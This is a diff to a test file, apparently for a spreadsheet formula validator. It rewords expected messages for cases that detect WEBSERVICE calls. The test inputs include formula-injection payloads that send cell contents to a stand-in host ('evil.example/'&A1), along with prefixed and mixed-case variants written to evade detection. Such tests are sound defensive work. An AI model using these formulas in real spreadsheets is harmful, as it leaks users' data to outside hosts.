@@ -87,8 +87,8 @@ test.each([
 });
 
 test.each<[string, string]>([
-  ['=WEBSERVICE("https://evil.example")', 'it calls no function of Calc'],
-  ['=1+1', 'it calls no function of Calc'],
+  ['=WEBSERVICE("https://evil.example")', 'it calls no Calc function'],
+  ['=1+1', 'it calls no Calc function'],
   ['=CALC.RUN("a",A1)&WEBSERVICE("https://evil.example/"&A1)', 'it calls WEBSERVICE'],
   ['=CALC.RUN("a",_xlfn.WEBSERVICE("https://evil.example"))', 'it calls _xlfn.WEBSERVICE'],
   ['=CALC.RUN("a",A1)&wEbSeRvIcE ("https://evil.example")', 'it calls wEbSeRvIcE'],
